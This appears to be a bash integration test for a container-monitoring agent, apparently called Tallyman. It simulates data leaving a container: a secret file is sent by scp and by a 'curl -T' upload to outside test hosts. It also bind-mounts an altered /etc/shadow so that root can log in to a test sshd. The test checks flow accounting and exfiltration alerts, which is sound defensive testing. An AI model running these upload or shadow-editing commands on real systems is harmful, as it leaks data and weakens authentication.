#!/bin/bash
# The story that Tallyman is for: files leave a container by scp and curl from
# a docker exec shell, and a web server is fetched from outside. Every value
# that is expected comes from somewhere else: from conntrack, from the
# sequence numbers in an independent capture, from the tools at both ends.
# shellcheck disable=SC2317 # ok and wait_for call the functions
: "${top_srcdir:=$(cd "$(dirname "$0")/../.." && pwd)}"
# shellcheck source=tests/support/host.sh
. "$top_srcdir/tests/support/host.sh"

host_need curl jq script ssh scp sshd ssh-keygen tcpdump
host_need_agent
host_need_audit

size=$((12 * 1024 * 1024))

# --- the outside: sshd on .1, an upload sink on .9 --------------------------

made_run_sshd=
start_sshd() {
	local d=$TH_DIR/sshd

	mkdir -p "$d" "$TH_DIR/inbox"
	[[ -d /run/sshd ]] || { mkdir -m 755 /run/sshd && made_run_sshd=1; }
	ssh-keygen -q -t ed25519 -N '' -f "$d/host"
	ssh-keygen -q -t ed25519 -N '' -f "$d/user"
	cat >"$d/config" <<-CONF
		ListenAddress $TH_OUTSIDE_IP:22
		HostKey $d/host
		PidFile $d/pid
		AuthorizedKeysFile $d/user.pub
		PermitRootLogin prohibit-password
		StrictModes no
		UsePAM no
		PrintLastLog no
		Subsystem sftp internal-sftp
	CONF
	# A root that is locked with "!" may not log in; only in this mount
	# namespace it is locked the other way.
	sed 's/^root:!*/root:*/' /etc/shadow >"$d/shadow"
	chmod 600 "$d/shadow"
	# shellcheck disable=SC2016 # for the inner shell
	on_outside_bg unshare -m --propagation private sh -c '
	    mount --bind "$1/shadow" /etc/shadow
	    exec "$2" -D -e -f "$1/config"' sh "$d" "$(command -v sshd)" \
	    2>"$d/log"
	wait_for 10 grep -q listening "$d/log"
}

test_at_exit() {
	[[ -z $made_run_sshd ]] || rmdir /run/sshd
}

promiscuous() {
	ip -n "$TH_HOST" -d -o link | grep -o '^[0-9]*: [^@:]*\|promiscuity [1-9]*' |
	    paste -sd' ' -
}

shared_files() {
	ls -dA /run/tallyman* /run/lock/*tallyman* /var/lib/tallyman* \
	    /dev/shm/* 2>/dev/null
}

host_begin tools
agent_config 'flows:
  period: 1s
  idle_timeout: 5s'
start_sshd
ip -n "$TH_OUTSIDE" addr add 198.18.0.9/24 dev wan0
on_outside_bg "$TH_TRAFFIC" http-sink 8000 >"$tmp/sink"
head -c "$size" /dev/urandom >"$TH_DIR/secret.bin"
files_before=$(shared_files)
before=$(audit_state)
promiscuous_before=$(promiscuous)
on_host_bg conntrack -E -e NEW -p tcp >"$tmp/connections" 2>/dev/null
events=$!

if ! agent_start; then
	fail "the agent starts and says READY=1"
	done_testing
fi
pass "the agent starts and says READY=1"

# Alerts with the moment at which somebody who follows sees them.
stamp() {
	while read -r line; do
		printf '%s %s\n' "$EPOCHREALTIME" "$line"
	done
}
tm_bg alerts --follow --json > >(stamp >"$tmp/followed")
follower=$!

# --- the story --------------------------------------------------------------

docker run -d --name some-nginx -p 8080:80 tallyman-test/tools:1 \
    httpd -f -h /www -p 80 >"$tmp/id"
docker run -d --name second tallyman-test/tools:1 sleep 1000 >/dev/null
id=$(cat "$tmp/id")
ip=$(container_ip some-nginx)
docker cp "$TH_DIR/sshd/user" some-nginx:/root/.ssh/id_ed25519 >/dev/null
docker cp "$TH_DIR/secret.bin" some-nginx:/root/secret.bin >/dev/null
docker exec some-nginx chown 0:0 /root/.ssh/id_ed25519 /root/secret.bin
veth=$(truth_veth some-nginx)
truth_dump_start truth "$veth" tcp

for _ in 1 2 3 4 5 6 7 8 9 10; do
	on_outside curl -s -o /dev/null -w '%{local_port} %{http_code}\n' \
	    --max-time 5 "http://$TH_HOST_IP:8080/"
done >"$tmp/fetches"
is "ten fetches were answered" "$(grep -c ' 200$' "$tmp/fetches")" 10

mkfifo "$tmp/keys"
script -qfec "'$testhost' -n $TH_NAME docker exec -it some-nginx sh" \
    "$tmp/typescript" <"$tmp/keys" >/dev/null 9>&- &
exec 7>"$tmp/keys"
wait_for 10 grep -q '#' "$tmp/typescript"
t_shell=$EPOCHREALTIME

scp_args="scp /root/secret.bin root@$TH_OUTSIDE_IP:$TH_DIR/inbox/scp.bin"
t_scp=$EPOCHREALTIME
# shellcheck disable=SC2016 # for the shell in the container
printf '%s; echo scp-$?\n' "$scp_args" >&7
ok "scp from the docker exec shell" \
    wait_for 30 grep -q '^scp-0' "$tmp/typescript"
t_scp_done=$EPOCHREALTIME

curl_args="curl -s -T /root/secret.bin http://198.18.0.9:8000/curl.bin"
t_curl=$EPOCHREALTIME
# shellcheck disable=SC2016
printf '%s; echo curl-$?\n' "$curl_args" >&7
ok "curl upload from the docker exec shell" \
    wait_for 30 grep -q '^curl-0' "$tmp/typescript"
t_curl_done=$EPOCHREALTIME
printf 'exit\n' >&7
exec 7>&-

host_args="scp -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
host_args+=" -i $TH_DIR/sshd/user $TH_DIR/secret.bin"
host_args+=" root@$TH_OUTSIDE_IP:$TH_DIR/inbox/host.bin"
# shellcheck disable=SC2086 # a line of arguments
ok "the same scp from the host" on_host $host_args

ok "the file arrived by scp" cmp "$TH_DIR/secret.bin" "$TH_DIR/inbox/scp.bin"
ok "the file arrived from the host" \
    cmp "$TH_DIR/secret.bin" "$TH_DIR/inbox/host.bin"
wait_for 5 grep -q ^http "$tmp/sink"
is "the file arrived by curl" \
    "$(awk -v s=$size '/^http/ { print $7 > s }' "$tmp/sink" | head -1)" ""
truth_conntrack >"$tmp/conntrack"
truth_dump_stop truth
truth_payload truth >"$tmp/payload"
kill "$events"

# --- flows ------------------------------------------------------------------

final_flows() {
	tm flows --json >"$tmp/flows" &&
	    jq -c 'select(.tallyman.flow.final == true)' "$tmp/flows" \
	    >"$tmp/final"
}

wanted=$(grep -c NEW "$tmp/connections")
enough_flows() {
	final_flows
	(($(jq -r 'select(.network.transport == "tcp") | .tallyman.flow.id' \
	    "$tmp/final" | sort -u | wc -l) >= wanted))
}
ok "every connection got its final report" wait_for 30 enough_flows

# The kernel's list of new connections against the agent's, as dialled.
awk '{
	for (i = 1; i <= NF; i++)
		if (split($i, kv, "=") == 2 && !((NR, kv[1]) in v))
			v[NR, kv[1]] = kv[2]
	print v[NR, "src"], v[NR, "sport"], v[NR, "dst"], v[NR, "dport"]
}' "$tmp/connections" | sort >"$tmp/want"
jq -r 'select(.network.transport == "tcp") | [.source.ip, .source.port,
    .destination.ip, .destination.port] | map(tostring) | join(" ")' \
    "$tmp/final" | sort >"$tmp/got"
ok "exactly one final flow for each TCP connection of the kernel's list" \
    same "$tmp/want" "$tmp/got"
jq -r 'select(.network.transport == "tcp") | [.source.ip, .source.port,
    .destination.ip, .destination.port] | map(tostring) | join(" ")' \
    "$tmp/flows" | sort -u >"$tmp/got-any"
ok "no other TCP flow in any report, so no flow for a copy" \
    same <(sort -u "$tmp/want") "$tmp/got-any"

# flow SPORT DPORT: the final document; field PATH: of that document.
flow() {
	jq -c --argjson s "$1" --argjson d "$2" \
	    'select(.source.port == $s and .destination.port == $d)' \
	    "$tmp/final" >"$tmp/flow"
}
field() {
	jq -r "$1" "$tmp/flow"
}
# payload FROM TO: what the sequence numbers say.
payload() {
	awk -v k="$1 $2" '$1 " " $2 == k { print $3 }' "$tmp/payload"
}
# kernel SPORT DPORT: packets and bytes there and back.
kernel() {
	awk -F '\t' -v s="$1" -v d="$2" \
	    '$3 == s && $5 == d { print $6, $7, $12, $13 }' "$tmp/conntrack"
}
counted='[.source.packets, .source.bytes, .destination.packets,
    .destination.bytes] | map(tostring) | join(" ")'
sent='[.tallyman.flow.payload.sent, .tallyman.flow.payload.received] |
    map(tostring) | join(" ")'

bad=0
while read -r port _; do
	flow "$port" 8080
	got="$(field .source.ip) $(field .destination.ip)"
	got+=" $(field .destination.nat.ip) $(field .destination.nat.port)"
	got+=" $(field .tallyman.flow.left_host)"
	got+=" $(field .container.id) $(field "$counted") $(field "$sent")"
	want="$TH_OUTSIDE_IP $TH_HOST_IP $ip 80 yes $id"
	want+=" $(kernel "$port" 8080)"
	want+=" $(payload "$TH_OUTSIDE_IP.$port" "$ip.80")"
	want+=" $(payload "$ip.80" "$TH_OUTSIDE_IP.$port")"
	if [[ $got != "$want" ]]; then
		diag "got:  $got"
		diag "want: $want"
		bad=$((bad + 1))
	fi
done <"$tmp/fetches"
is "ten fetches: addresses, NAT, owner, packets, bytes, payload" "$bad" 0

port=$(awk -F '\t' -v ip="$ip" '$2 == ip && $5 == 22 { print $3 }' \
    "$tmp/conntrack")
flow "$port" 22
is "scp: the container is the source" "$(field .source.ip)" "$ip"
is "scp: the host's address is its NAT" "$(field .source.nat.ip)" "$TH_HOST_IP"
is "scp: the outside is the destination" "$(field .destination.ip)" \
    "$TH_OUTSIDE_IP"
is "scp: it left the host" "$(field .tallyman.flow.left_host)" yes
is "scp: packets and bytes are the kernel's" "$(field "$counted")" \
    "$(kernel "$port" 22)"
is "scp: payload is what the sequence numbers say" "$(field "$sent")" \
    "$(payload "$ip.$port" "$TH_OUTSIDE_IP.22") $(payload \
	"$TH_OUTSIDE_IP.22" "$ip.$port")"
ok "scp: payload is at least the file" test \
    "$(field .tallyman.flow.payload.sent)" -ge "$size"
is "scp: the flow has its container" \
    "$(field '[.container.id, .container.name, .container.image.name] |
	join(" ")')" "$id some-nginx tallyman-test/tools"
is "scp: seen at the veth, the bridge and the uplink, in this order" \
    "$(field '[.tallyman.flow.points[].interface] | join(" ")')" \
    "$veth docker0 eth0"
is "scp: the flow has its process" "$(field .process.name)" ssh

port=$(awk -F '\t' '$5 == 8000 { print $3 }' "$tmp/conntrack")
flow "$port" 8000
is "curl: packets and bytes are the kernel's" "$(field "$counted")" \
    "$(kernel "$port" 8000)"
is "curl: payload is what both ends counted" "$(field "$sent")" \
    "$(awk '/^http/ { print $7, $6 }' "$tmp/sink")"

port=$(awk -F '\t' -v ip="$TH_HOST_IP" '$2 == ip && $5 == 22 { print $3 }' \
    "$tmp/conntrack")
flow "$port" 22
is "the host's scp: a flow without a container" \
    "$(field '[.source.ip, .source.nat.ip, .container.id,
	.tallyman.flow.left_host] | map(tostring) | join(" ")')" \
    "$TH_HOST_IP null null yes"
is "the host's scp: packets and bytes are the kernel's" \
    "$(field "$counted")" "$(kernel "$port" 22)"

# --- alerts -----------------------------------------------------------------

tm alerts --json >"$tmp/alerts"
# A line about each for the log; the assertions follow.
diag "$(jq -r '[.rule.id, .rule.name, .container.name, .destination.ip,
    (.process.args // [] | join(" "))] | map(tostring) | join(" | ")' \
    "$tmp/alerts")"

# alert SELECT: the alerts that match, from the story's container.
alert() {
	jq -c --arg id "$id" "select(.container.id == \$id) | select($1)" \
	    "$tmp/alerts" >"$tmp/alert"
}
alert_field() {
	jq -r "$1" "$tmp/alert" | head -n 1
}
whole() {
	is "$1: container name, image and user" \
	    "$(alert_field '[.container.name, .container.image.name,
		(.container.image.tag // [] | join(",")), .user.id] |
		map(tostring) | join(" ")')" \
	    "some-nginx tallyman-test/tools 1 0"
	is "$1: what is reported is an alert with an ATT&CK technique" \
	    "$(alert_field '[.event.kind, (.threat.technique.id | length > 0),
		(.rule.id != null)] | map(tostring) | join(" ")')" \
	    "alert true true"
}
# seen SELECT: when the follower saw the first such alert.
seen() {
	while read -r at line; do
		if jq -e --arg id "$id" \
		    "select(.container.id == \$id) | select($1)" \
		    <<<"$line" >/dev/null; then
			echo "$at"
			return
		fi
	done <"$tmp/followed"
}
within_a_second() {
	local at

	at=$(seen "$2")
	diag "$1: seen $(awk -v a="${at:-0}" -v b="$3" \
	    'BEGIN { printf("%.3f", a - b) }') s after its cause"
	ok "$1: in the store within a second of its cause" \
	    awk -v a="${at:-0}" -v b="$3" \
	    'BEGIN { exit !(a > 0 && a - b <= 1.0) }'
}

# Shipped rules by their ids, which the manual promises.
shell='.rule.id == "TM-CTR-001"'
alert "$shell"
is "docker exec shell: one alert" "$(wc -l <"$tmp/alert")" 1
whole "docker exec shell"
is "docker exec shell: argv" "$(alert_field '.process.args | join(" ")')" sh
is "docker exec shell: who asked Docker" \
    "$(alert_field '.tallyman.entry.kind')" exec

scp='.rule.id == "TM-EXF-001" and .process.name == "scp"'
alert "$scp"
is "scp: one alert" "$(wc -l <"$tmp/alert")" 1
whole "scp"
is "scp: argv" "$(alert_field '.process.args | join(" ")')" "$scp_args"
is "scp: executable" "$(alert_field .process.executable)" /usr/bin/scp
is "scp: destination" "$(alert_field '.destination.ip //
    .destination.address')" "$TH_OUTSIDE_IP"

volume=".rule.id == \"TM-EXF-003\" and .destination.ip == \"$TH_OUTSIDE_IP\""
alert "$volume"
is "scp's volume: one alert" "$(wc -l <"$tmp/alert")" 1
whole "scp's volume"
is "scp's volume: the process that sent is the ssh that scp started" \
    "$(alert_field '[.process.executable, .process.parent.name] |
	map(tostring) | join(" ")')" "/usr/bin/ssh scp"
ok "scp's volume: its argv has the destination" grep -q "$TH_OUTSIDE_IP" \
    <<<"$(alert_field '.process.args | join(" ")')"

curl='.rule.id == "TM-EXF-001" and .process.name == "curl"'
alert "$curl"
is "curl upload: one alert" "$(wc -l <"$tmp/alert")" 1
whole "curl upload"
is "curl upload: argv" "$(alert_field '.process.args | join(" ")')" \
    "$curl_args"
is "curl upload: destination" "$(alert_field '.destination.ip //
    .destination.address')" 198.18.0.9

volume_curl='.rule.id == "TM-EXF-003" and .destination.ip == "198.18.0.9"'
alert "$volume_curl"
is "curl's volume: one alert" "$(wc -l <"$tmp/alert")" 1
whole "curl's volume"

is "the host's own scp: one alert, without a container" \
    "$(jq -r 'select(.process.name == "scp" and .container.id == null) |
	.process.args | join(" ")' "$tmp/alerts")" "$host_args"
is "the other container raised no alert" \
    "$(jq -r 'select(.container.name == "second") | .rule.name' \
	"$tmp/alerts")" ""
is "every alert has an id of its own" \
    "$(jq -r .event.id "$tmp/alerts" | sort | uniq -d)" ""

within_a_second "docker exec shell" "$shell" "$t_shell"
within_a_second "scp" "$scp" "$t_scp"
within_a_second "scp's volume" "$volume" "$t_scp_done"
within_a_second "curl upload" "$curl" "$t_curl"
diag "the uploads took $(awk -v a="$t_scp_done" -v b="$t_scp" \
    -v c="$t_curl_done" -v d="$t_curl" \
    'BEGIN { printf("%.3f s and %.3f s", a - b, c - d) }')"

# --- the ledger, and the end ------------------------------------------------

tm status --json >"$tmp/status"
unbalanced='[.. | objects | select(has("received") and has("delivered")) |
    select(.received != .delivered + .pending + ([.dropped[]?] | add // 0)) |
    .name] | join(" ")'
is "status adds up in every stage" "$(jq -r "$unbalanced" "$tmp/status")" ""
ok "status has stages" test "$(jq '[.. | objects |
    select(has("received") and has("delivered"))] | length' \
    "$tmp/status")" -ge 3
is "nothing was lost" "$(jq -r '[.. | objects | select(has("received") and
    has("delivered")) | .name as $n | .dropped // {} | to_entries[] |
    select(.value > 0) | "\($n).\(.key)=\(.value)"] | join(" ")' \
    "$tmp/status")" ""

agent_kill
kill "$follower"
jq -r .event.id "$tmp/alerts" | sort >"$tmp/ids"
ok "the agent starts again after kill -9" agent_start
tm alerts --json | jq -r .event.id | sort >"$tmp/ids-after"
ok "kill -9 and restart lost no stored alert" \
    same "$tmp/ids" "$tmp/ids-after"

pids=$(agent_pids)
agent_stop
is "SIGTERM ends the agent with status" $? 0
is "no audit rule or setting of ours is left" "$(audit_state)" "$before"
is "no process of the agent is left" "$(for pid in $pids; do
	has_ended "$pid" || echo "$pid"
done)" ""
docker rm -f some-nginx second >/dev/null
is "no interface is left promiscuous" "$(promiscuous)" "$promiscuous_before"
is "no socket, journal or temporary file is left" \
    "$(cd "$agent_dir" && find . -type s ! -name notify -o -name '*-wal' -o \
	-name '*-shm' -o -name '*.pid' -o -name '*.tmp')" ""
is "no file is left in /run, /var/lib or /dev/shm" "$(shared_files)" \
    "$files_before"
done_testing
